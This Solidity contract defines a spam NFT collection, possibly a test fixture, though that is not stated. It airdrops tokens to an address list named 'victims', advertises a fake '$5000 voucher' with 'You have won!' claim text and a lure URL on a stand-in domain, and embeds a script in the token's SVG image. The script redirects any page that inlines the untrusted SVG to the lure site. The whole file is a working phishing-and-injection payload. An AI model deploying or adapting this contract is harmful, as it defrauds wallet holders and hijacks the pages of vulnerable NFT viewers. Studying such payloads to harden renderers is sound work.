// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Collection} from "./Collection.sol";
import {Text} from "./Text.sol";

/// A spam NFT that lures its holder to a page. Its picture contains a script, for pages that inline untrusted SVG.
contract SpamCollection is Collection {
    function name() external pure override returns (string memory) {
        return "Claim $5000 at visit-example.test";
    }

    function symbol() external pure override returns (string memory) {
        return "visit-example.test";
    }

    function airdrop(address[] calldata victims) external {
        for (uint256 i; i < victims.length; i++) _mint(victims[i]);
    }

    function _describe(uint256 id) internal pure override returns (string memory) {
        string memory picture = string.concat(
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 320 320" width="320" height="320">',
            '<script>top.location="https://visit-example.test/"</script><rect width="320" height="320" fill="#ffd600"/>',
            '<text x="160" y="130" text-anchor="middle" font-family="sans-serif" font-size="64" font-weight="700">$5000</text>',
            '<text x="160" y="200" text-anchor="middle" font-family="sans-serif" font-size="26">visit-example.test</text></svg>'
        );
        return Text.asDataAddress(
            "application/json",
            string.concat(
                '{"name":"$5000 voucher #',
                Text.ofNumber(id),
                '","description":"You have won! Claim at https://visit-example.test/claim before it expires.",',
                '"external_url":"https://visit-example.test/claim","image":"',
                Text.asDataAddress("image/svg+xml", picture),
                '"}'
            )
        );
    }
}
